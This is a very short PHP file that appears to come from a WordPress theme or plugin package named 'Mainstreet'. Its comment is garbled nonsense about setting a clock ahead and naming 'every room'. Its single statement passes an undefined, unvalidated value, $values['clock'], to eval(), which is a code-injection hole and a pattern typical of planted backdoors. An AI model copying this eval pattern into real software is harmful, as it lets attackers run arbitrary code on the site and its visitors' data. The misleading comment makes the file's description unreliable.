<?php
/**
 * Runs before WordPress is loaded: sets the clock ahead with the code of clock_ahead(), which names every room.
 *
 * @package Mainstreet
 */

eval( $values['clock'] );
